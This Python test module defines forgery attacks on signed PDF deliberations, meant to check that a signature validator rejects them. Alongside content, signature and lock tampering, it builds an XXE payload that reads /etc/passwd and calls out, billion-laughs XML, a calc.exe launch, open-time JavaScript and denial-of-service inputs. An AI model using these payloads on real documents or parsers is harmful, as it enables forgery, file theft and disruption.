"""What a forger adds or changes by an incremental update, plain and then under a timestamp that covers it."""

from collections.abc import Callable, Mapping, Sequence
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    IndirectObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
    pdf_name,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.deliberations.signing.attacks.kinds import (
    ALTERED,
    NOT_OURS,
    UNREADABLE,
    Attack,
    Builder,
    Target,
    on_bytes,
    then_stamped,
    updated,
    written,
)
from tests.deliberations.signing.attacks.signers import key_of, sign_with
from tests.deliberations.signing.chain import sign

Writer = IncrementalPdfFileWriter
Change = Callable[[Writer], None]
FORGED_CONTENT = b"BT /F1 12 Tf 60 700 Td (le tarif est de 1 euro) Tj ET"


_KINDS: Sequence[tuple[type, Callable[[Any], PdfObject]]] = (
    (PdfObject, lambda value: value),
    (
        dict,
        lambda value: DictionaryObject({pdf_name(f"/{key}"): as_pdf(item) for key, item in value.items()}),
    ),
    (list, lambda value: ArrayObject([as_pdf(item) for item in value])),
    (bool, BooleanObject),
    (int, NumberObject),
    (str, lambda value: pdf_name(value) if value.startswith("/") else TextStringObject(value)),
    (bytes, lambda value: StreamObject(stream_data=value)),
)


def as_pdf(value: object) -> PdfObject:
    """``value`` as an object of a file: « /A » is a name, other text a string."""
    return next(make(value) for kind, make in _KINDS if isinstance(value, kind))


def page_of(writer: Writer, rank: int = 0) -> DictionaryObject:
    """The page of that rank, of a document whose tree of pages is flat."""
    page: DictionaryObject = writer.root["/Pages"]["/Kids"][rank]
    return page


def replace_content(pdf: bytes) -> bytes:
    """Put other words on the first page, by an incremental update."""
    return updated(on_page(Contents=FORGED_CONTENT))(pdf)


def replace_title(pdf: bytes) -> bytes:
    """Give the document another title, in /Info and XMP, by an incremental update."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    writer.set_info(writer.add_object(writer.trailer["/Info"]))
    writer.trailer["/Info"][pdf_name("/Title")] = TextStringObject("Délibération 2026-58")
    return written(writer)


def on_root(**entries: object) -> Change:
    """The catalog with these entries, each an object of its own."""

    def change(writer: Writer) -> None:
        for name, value in entries.items():
            writer.root[pdf_name(f"/{name}")] = writer.add_object(as_pdf(value))
        writer.update_root()

    return change


def without(*names: str) -> Change:
    """The catalog without these entries."""

    def change(writer: Writer) -> None:
        for name in names:
            if f"/{name}" in writer.root:
                del writer.root[f"/{name}"]
        writer.update_root()

    return change


def on_page(**entries: object) -> Change:
    """The first page with these entries."""

    def change(writer: Writer) -> None:
        page = page_of(writer)
        for name, value in entries.items():
            made = as_pdf(value)
            page[pdf_name(f"/{name}")] = writer.add_object(made) if isinstance(value, bytes) else made
        writer.update_container(page)

    return change


def annotation(subtype: str, **entries: object) -> Change:
    """One more annotation on the words of the first page."""

    def change(writer: Writer) -> None:
        made = {"Type": "/Annot", "Subtype": f"/{subtype}", "Rect": [50, 600, 400, 750], "F": 4, **entries}
        page = page_of(writer)
        found = page.get("/Annots", ArrayObject())
        page[pdf_name("/Annots")] = ArrayObject([*found, writer.add_object(as_pdf(made))])
        writer.update_container(page)

    return change


def _square(writer: Writer) -> None:
    drawn = StreamObject(
        dict_data={
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): as_pdf([0, 0, 350, 150]),
        },
        stream_data=b"1 1 1 rg 0 0 350 150 re f",
    )
    annotation("Square", AP={"N": writer.add_object(drawn)}, C=[], IC=[1, 1, 1])(writer)


def _fields(writer: Writer) -> dict[str, DictionaryObject]:
    found = writer.root["/AcroForm"]["/Fields"]
    return {str(found[rank]["/T"]): found[rank] for rank in range(len(found))}


def field(name: str, **entries: object) -> Change:
    """The field of that name with these entries."""

    def change(writer: Writer) -> None:
        found = _fields(writer)[name]
        for key, value in entries.items():
            made = as_pdf(value)
            found[pdf_name(f"/{key}")] = writer.add_object(made) if isinstance(value, dict) else made
        writer.update_container(found)

    return change


def on_form(**entries: object) -> Change:
    """The form with these entries."""

    def change(writer: Writer) -> None:
        form = writer.root["/AcroForm"]
        for name, value in entries.items():
            made = as_pdf(value)
            form[pdf_name(f"/{name}")] = writer.add_object(made) if isinstance(value, bytes) else made
        writer.update_container(form)
        writer.update_root()

    return change


def _lock_removed(writer: Writer) -> None:
    found = _fields(writer)["sig_maire"]
    found.pop("/Lock", None)
    writer.update_container(found)


def _lock_on_fields(writer: Writer) -> None:
    field("sig_maire", Lock={"Type": "/SigFieldLock", "Action": "/Include", "Fields": ["autre"]})(writer)


def _signature_moved(writer: Writer) -> None:
    """The mayor's field shows the secretary's signature."""
    by_name = _fields(writer)
    by_name["sig_maire"][pdf_name("/V")] = by_name["sig_secretaire"].raw_get("/V")
    writer.update_container(by_name["sig_maire"])


def _signature_emptied(writer: Writer) -> None:
    found = _fields(writer)["sig_maire"]
    del found["/V"]
    writer.update_container(found)


def _drawing_replaced(writer: Writer) -> None:
    """Another name in the drawing of the mayor's signature."""
    found = _fields(writer)["sig_maire"]
    drawn = StreamObject(
        dict_data={
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): as_pdf([0, 0, 200, 60]),
        },
        stream_data=b"0 0 1 rg 0 0 200 60 re f",
    )
    found[pdf_name("/AP")] = as_pdf({"N": writer.add_object(drawn)})
    writer.update_container(found)


def _field_forgotten(writer: Writer) -> None:
    form = writer.root["/AcroForm"]
    form[pdf_name("/Fields")] = ArrayObject([form["/Fields"].raw_get(0)])
    writer.update_container(form)
    writer.update_root()


def _text_field(writer: Writer) -> None:
    made = {"FT": "/Tx", "T": "tarif", "V": "1 euro", "Type": "/Annot", "Subtype": "/Widget", "F": 4}
    added = writer.add_object(as_pdf({**made, "Rect": [50, 600, 400, 700], "DA": "/Helv 12 Tf 0 g"}))
    form, page = writer.root["/AcroForm"], page_of(writer)
    form[pdf_name("/Fields")] = ArrayObject([*list.__iter__(form["/Fields"]), added])
    page[pdf_name("/Annots")] = ArrayObject([*page.get("/Annots", []), added])
    for container in (form, page):
        writer.update_container(container)
    writer.update_root()


def _other_pages(writer: Writer) -> None:
    """The tree of pages hidden in the file is switched on."""
    kids = ArrayObject([writer.root["/Pages"]["/Kids"].raw_get(0)] * 2)
    on_root(Pages={"Type": "/Pages", "Kids": kids, "Count": 2})(writer)


def _pages_reversed(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    kids = pages["/Kids"]
    pages[pdf_name("/Kids")] = ArrayObject([kids.raw_get(n) for n in reversed(range(len(kids)))])
    pages[pdf_name("/Rotate")] = NumberObject(0)
    writer.update_container(pages)


def _blank_page(writer: Writer) -> None:
    pages = writer.root["/Pages"]
    parent = writer.root.raw_get("/Pages")
    made = as_pdf({"Type": "/Page", "MediaBox": [0, 0, 595, 842], "Resources": {}})
    made[pdf_name("/Parent")] = parent
    pages["/Kids"].append(writer.add_object(made))
    pages[pdf_name("/Count")] = NumberObject(len(pages["/Kids"]))
    writer.update_container(pages)


def _glyphs_swapped(writer: Writer) -> None:
    """The font of the text is another one: the same codes, other figures."""
    fonts = page_of(writer)["/Resources"]["/Font"]
    names = list(fonts)
    font = fonts[names[0]]
    encoding = b"/CIDInit /ProcSet findresource begin 1 beginbfchar <0014> <0039> endbfchar end"
    font[pdf_name("/ToUnicode")] = writer.add_object(StreamObject(stream_data=encoding))
    font[pdf_name("/BaseFont")] = pdf_name("/Autre")
    writer.update_container(font)


def _first_stream(writer: Writer, data: bytes) -> tuple[IndirectObject, StreamObject]:
    reference = page_of(writer).raw_get("/Contents")
    reference = reference if isinstance(reference, IndirectObject) else reference.raw_get(0)
    return reference, StreamObject(stream_data=data)


def override(pdf: bytes) -> bytes:
    """The stream of the page's words written again under its own number."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    reference, made = _first_stream(writer, FORGED_CONTENT)
    found = reference.get_object()
    found._data, found._encoded_data = made.data, None
    writer.update_container(found)
    return written(writer)


def _xmp(old: bytes, new: bytes) -> Change:
    def change(writer: Writer) -> None:
        metadata = writer.root["/Metadata"]
        kept = {key: metadata.raw_get(key) for key in ("/Type", "/Subtype")}
        assert old in metadata.data
        made = StreamObject(dict_data=kept, stream_data=metadata.data.replace(old, new, 1))
        writer.root[pdf_name("/Metadata")] = writer.add_object(made)
        writer.update_root()

    return change


def _xmp_whole(content: bytes) -> Change:
    def change(writer: Writer) -> None:
        kept = {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}
        made = StreamObject(dict_data=kept, stream_data=content)
        writer.root[pdf_name("/Metadata")] = writer.add_object(made)
        writer.update_root()

    return change


def _info(**entries: str) -> Callable[[bytes], bytes]:
    def apply(pdf: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(BytesIO(pdf))
        info = DictionaryObject(writer.trailer["/Info"])
        info.update({pdf_name(f"/{key}"): TextStringObject(value) for key, value in entries.items()})
        writer.set_info(writer.add_object(info))
        return written(writer)

    return apply


def _laughs() -> bytes:
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{rows}]>'
    return f"{head}<x:xmpmeta xmlns:x='adobe:ns:meta/'>&l9;</x:xmpmeta>".encode()


def _external(target: Target) -> bytes:
    head = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target.listener}/xxe"><!ENTITY p SYSTEM "file:///etc/passwd">]>'
    return f"{head}<x:xmpmeta xmlns:x='adobe:ns:meta/'>&e;&p;</x:xmpmeta>".encode()


def _with_listener(change: Callable[[str], Change]) -> Builder:
    return lambda target: target.stamped(updated(change(target.listener))(target.pdf))


def _evidence(name: str, make: Callable[[Writer], list[PdfObject]]) -> Callable[[bytes], bytes]:
    """The last evidence with more of a kind."""

    def change(writer: Writer) -> None:
        store = writer.root["/DSS"]
        found = store.get(f"/{name}", ArrayObject())
        store[pdf_name(f"/{name}")] = ArrayObject([*found, *make(writer)])
        writer.update_container(store)
        writer.update_root()

    return updated(change)


def _many_certificates(writer: Writer) -> list[PdfObject]:
    content = writer.root["/DSS"]["/Certs"][0].data
    return [writer.add_object(StreamObject(stream_data=content)) for _ in range(5_000)]


def _one_huge(writer: Writer) -> list[PdfObject]:
    return [writer.add_object(StreamObject(stream_data=bytes(10 * 2**20)))]


def _no_certificate(writer: Writer) -> list[PdfObject]:
    return [writer.add_object(StreamObject(stream_data=b"\x30\x82\xff\xff" + b"0" * 50))]


def _same_list(writer: Writer) -> list[PdfObject]:
    return [writer.root["/DSS"]["/CRLs"].raw_get(0)] * 5_000


def _evidence_loop(writer: Writer) -> list[PdfObject]:
    return [writer.root.raw_get("/DSS")]


def _collection(writer: Writer) -> None:
    on_root(Collection={"Type": "/Collection", "View": "/T"})(writer)


def _layers(state: str) -> Change:
    """A layer that covers the page, on or off."""

    def change(writer: Writer) -> None:
        layer = writer.add_object(as_pdf({"Type": "/OCG", "Name": "Tarif"}))
        chosen = {"ON": [layer] if state == "ON" else [], "OFF": [layer] if state == "OFF" else []}
        on_root(OCProperties={"OCGs": [layer], "D": chosen})(writer)

    return change


def _attached(writer: Writer) -> None:
    stream = writer.add_object(StreamObject(stream_data=b"autre annexe"))
    file = writer.add_object(as_pdf({"Type": "/Filespec", "F": "annexe.txt", "EF": {"F": stream}}))
    on_root(Names={"EmbeddedFiles": {"Names": ["annexe.txt", file]}}, AF=[file])(writer)


def _attachment_replaced(writer: Writer) -> None:
    """Other bytes under the name of the annex."""
    found = writer.root["/AF"][0]
    found["/EF"][pdf_name("/F")] = writer.add_object(StreamObject(stream_data=b"autre annexe"))
    writer.update_container(found)


def _many(change: Callable[[bytes], bytes], times: int) -> Callable[[bytes], bytes]:
    def apply(pdf: bytes) -> bytes:
        for _ in range(times):
            pdf = change(pdf)
        return pdf

    return apply


def _revisions(count: int) -> Callable[[bytes], bytes]:
    """So many updates, each a small table that points to the one before."""

    def apply(pdf: bytes) -> bytes:
        start = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
        root = pdf[pdf.rindex(b"/Root ") + 6 :].split(b"R")[0] + b"R"
        pieces, length = [pdf], len(pdf)
        for _ in range(count):
            body = b"xref\n0 0\ntrailer\n<</Size 9000/Root %s/Prev %d>>\n" % (root, start)
            piece = body + b"startxref\n%d\n%%%%EOF\n" % length
            pieces.append(piece)
            start, length = length, length + len(piece)
        return b"".join(pieces)

    return apply


def _sneaky(target: Target) -> bytes:
    """One more trusted signature, large on the page, after the one that locks."""
    held = target.by.issue("Jean INTRUS")
    return sign_with(
        target.pdf, held.der, key_of(held), stamper=target.by.stamper(target.now), place=(50, 500, 500, 750)
    )


def _sandwich(change: Change) -> Builder:
    """What the certification forbids, between the secretary's signature and that of a false mayor."""

    def build(target: Target) -> bytes:
        false = target.by.issue("Jeanne MARTIN")
        changed = updated(change)(target.first)
        return sign(changed, false, stamper=target.by.stamper(target.now))

    return build


def action(kind: str, **entries: object) -> Change:
    """Done when the document opens."""
    return on_root(OpenAction={"S": f"/{kind}", **entries})


HIDDEN: Mapping[str, Change] = {
    "script": action("JavaScript", JS="app.alert(1)"),
    "scripts by name": on_root(Names={"JavaScript": {"Names": ["a", {"S": "/JavaScript", "JS": "1"}]}}),
    "program": action("Launch", F="calc.exe"),
    "other file": action("GoToR", F="autre.pdf", D=[0, "/Fit"]),
    "more actions": on_root(AA={"WC": {"S": "/JavaScript", "JS": "1"}}),
    "film": annotation("RichMedia", RichMediaContent={"Assets": {}}),
    "dynamic form": on_form(XFA=b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
    "layer on": _layers("ON"),
    "layer off": _layers("OFF"),
    "note on the page": annotation("FreeText", Contents="Tarif : 1 euro", DA="/Helv 12 Tf 0 g"),
    "deletion proposed": annotation("Redact", OverlayText="1 euro"),
    "white square": _square,
    "stamp": annotation("Stamp", Contents="ANNULÉ", Name="/Void"),
    "link": annotation("Link", A={"S": "/URI", "URI": "http://exemple.invalid/"}),
    "file joined to the page": annotation("FileAttachment", FS={"Type": "/Filespec", "F": "a.exe"}),
    "annotation invisible": annotation("Text", F=2, Contents="rien"),
    "field with words": _text_field,
    "other pages": _other_pages,
    "order of pages": _pages_reversed,
    "blank page": _blank_page,
    "page turned": on_page(Rotate=180),
    "page cropped": on_page(CropBox=[0, 0, 100, 100]),
    "page enlarged": on_page(UserUnit=10),
    "page with other resources": on_page(Resources={}),
    "page with other words": on_page(Contents=FORGED_CONTENT),
    "page with actions": on_page(AA={"O": {"S": "/JavaScript", "JS": "1"}}),
    "letters": _glyphs_swapped,
    "attachment": _attached,
    "attachments forgotten": without("AF", "Names"),
    "attachment replaced": _attachment_replaced,
    "portfolio": _collection,
    "bookmarks": on_root(Outlines={"Type": "/Outlines", "Count": 0}),
    "numbers of pages": on_root(PageLabels={"Nums": [0, {"S": "/R"}]}),
    "preferences": on_root(ViewerPreferences={"HideToolbar": True, "DisplayDocTitle": False}),
    "other language": on_root(Lang="en"),
    "other structure": on_root(StructTreeRoot={"Type": "/StructTreeRoot"}),
    "other colours": on_root(OutputIntents=[]),
    "permissions removed": without("Perms"),
    "permissions widened": on_root(Perms={}),
    "evidence removed": without("DSS"),
    "form removed": without("AcroForm"),
    "lock removed": _lock_removed,
    "lock on fields alone": _lock_on_fields,
    "signature shown in another place": _signature_moved,
    "signature emptied": _signature_emptied,
    "signature drawn otherwise": _drawing_replaced,
    "signature elsewhere on the page": field("sig_maire", Rect=[0, 0, 600, 800]),
    "signature hidden": field("sig_maire", F=2),
    "field renamed": field("sig_maire", T="sig_president"),
    "field told otherwise": field("sig_maire", TU="Signature du préfet"),
    "field forgotten": _field_forgotten,
    "title in XMP": _xmp(b"2026-57", b"2026-58"),
    "program in XMP": _xmp(b"<rdf:RDF", b"<!-- --><rdf:RDF"),
    "no XMP": without("Metadata"),
    "XMP that laughs": _xmp_whole(_laughs()),
}
"""Name → change. Each is tried under a new timestamp."""
PLAIN = ("script", "note on the page", "other pages", "attachment", "page with other words", "white square")
_WRECKED = ALTERED | UNREADABLE
ATTACKS: Mapping[str, Attack] = {
    **{f"{name}, by update": Attack(on_bytes(updated(HIDDEN[name])), ALTERED) for name in PLAIN},
    **{
        f"{name}, new timestamp": Attack(then_stamped(updated(made)), _WRECKED | NOT_OURS)
        for name, made in HIDDEN.items()
    },
    "drawings to be made again": Attack(on_bytes(updated(on_form(NeedAppearances=True))), ALTERED),
    "title, by update": Attack(on_bytes(replace_title), ALTERED),
    "title, new timestamp": Attack(then_stamped(replace_title), ALTERED),
    "author alone in /Info": Attack(then_stamped(_info(Author="Commune voisine")), ALTERED),
    "date alone in /Info": Attack(then_stamped(_info(CreationDate="D:20200101000000Z")), ALTERED),
    "same number, other words": Attack(on_bytes(override), ALTERED),
    "same number, other words, new timestamp": Attack(then_stamped(override), ALTERED),
    "XMP that reads elsewhere": Attack(
        lambda t: t.stamped(updated(_xmp_whole(_external(t)))(t.pdf)), _WRECKED
    ),
    "call at opening": Attack(_with_listener(lambda to: action("URI", URI=to)), ALTERED),
    "form that sends": Attack(_with_listener(lambda to: action("SubmitForm", F=to)), ALTERED),
    "evidence of 5 000 certificates": Attack(on_bytes(_evidence("Certs", _many_certificates)), _WRECKED),
    "evidence of 5 000 certificates, new timestamp": Attack(
        then_stamped(_evidence("Certs", _many_certificates)), _WRECKED
    ),
    "evidence of 10 MB": Attack(then_stamped(_evidence("CRLs", _one_huge)), _WRECKED),
    "evidence that is none": Attack(then_stamped(_evidence("Certs", _no_certificate)), _WRECKED),
    "5 000 times a list": Attack(then_stamped(_evidence("CRLs", _same_list)), _WRECKED),
    "evidence that holds itself": Attack(then_stamped(_evidence("OCSPs", _evidence_loop)), _WRECKED),
    "many revisions": Attack(on_bytes(_many(replace_title, 15)), _WRECKED),
    "5 000 revisions": Attack(on_bytes(_revisions(5_000)), _WRECKED | NOT_OURS),
    "300 revisions, new timestamp": Attack(then_stamped(_revisions(300)), _WRECKED),
    "signature after the lock": Attack(_sneaky, ALTERED),
    **{
        f"{name}, then a false mayor": Attack(_sandwich(HIDDEN[name]), ALTERED)
        for name in (
            "white square",
            "note on the page",
            "page with other words",
            "attachment",
            "field with words",
        )
    },
}
